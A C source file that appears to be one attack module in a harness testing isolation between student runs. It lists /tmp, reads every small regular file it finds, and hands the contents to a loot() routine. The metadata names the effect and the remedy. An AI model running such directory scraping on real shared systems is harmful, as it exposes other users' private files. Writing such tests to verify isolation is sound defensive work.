// SPDX-License-Identifier: MIT
/*
 * folder-listing.c - the next student looks at what lies about.
 *
 * Goal: another student's work, without knowing its name.
 * Means: readdir(3) of /tmp, and a look into every file below 4 KiB. A secret name, as mktemp
 * gives it, is no secret in a folder everybody may list.
 */
#include "attacks/attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

/* Print the file if it is a small plain one. O_NONBLOCK: a planted FIFO shall not hold us. */
static bool print(int folder, const char *name)
{
	int fd = openat(folder, name, O_RDONLY | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC);
	char text[4096];
	struct stat st;
	ssize_t n = 0;

	if (fd < 0)
		return false;
	if (!fstat(fd, &st) && S_ISREG(st.st_mode) && st.st_size <= (off_t)sizeof(text))
		n = read(fd, text, sizeof(text));
	close(fd);
	if (n <= 0)
		return false;
	loot(text, (size_t)n);
	return true;
}

static enum claim run(const struct brief *b)
{
	struct dirent *entry;
	int found = 0;
	DIR *folder;

	attempting(b);
	folder = opendir("/tmp");
	if (!folder)
		return denied("opendir");
	while ((entry = readdir(folder)) && found < 100)
		found += print(dirfd(folder), entry->d_name);
	closedir(folder);
	errno = ENOENT;
	return found ? CLAIM_DONE : denied("open");
}

const struct attack attack = {
	.effect = "the next student reads the last one's file",
	.means = "readdir(3) of /tmp: the name need not be known",
	.oracle = "secret:victim",
	.scene = SCENE_AFTER_VICTIM,
	.id = "TMPS-01",
	.attack_id = "T1005, T1083, CWE-459, CWE-377",
	.remedy = "a folder of one's own per run, removed afterwards; /tmp emptied",
	.run = run,
};
